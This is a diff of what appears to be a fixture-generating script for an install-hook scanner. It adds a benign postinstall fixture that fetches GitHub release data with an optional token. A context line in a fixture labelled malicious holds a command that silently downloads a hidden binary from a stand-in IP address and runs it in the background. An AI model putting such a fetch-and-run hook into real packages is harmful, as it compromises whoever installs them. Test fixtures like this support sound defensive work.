@@ -175,6 +175,16 @@ mk mal-hook-shell '{"preinstall": "bash ./scripts/setup.sh"}' scripts/setup.sh <
 # set up the native helper
 wget -q http://203.0.113.61/helper -O /tmp/.helper && chmod +x /tmp/.helper && /tmp/.helper &
 EOF
+mk ok-token-download '{"postinstall": "node lib/postinstall.js"}' lib/postinstall.js <<'EOF'
+const https = require('https');
+const fs = require('fs');
+const path = require('path');
+const headers = { 'user-agent': 'example-downloader' };
+if (process.env.GITHUB_TOKEN) headers.authorization = 'token ' + process.env.GITHUB_TOKEN;
+https.get('https://api.github.com/repos/example/tool/releases/latest', { headers }, (res) => {
+  res.pipe(fs.createWriteStream(path.join(__dirname, '..', 'bin', 'release.json')));
+});
+EOF
 mk ok-native-gyp '{"install": "node-gyp rebuild"}' index.js <<'EOF'
 module.exports = require('./build/Release/addon.node');
 EOF
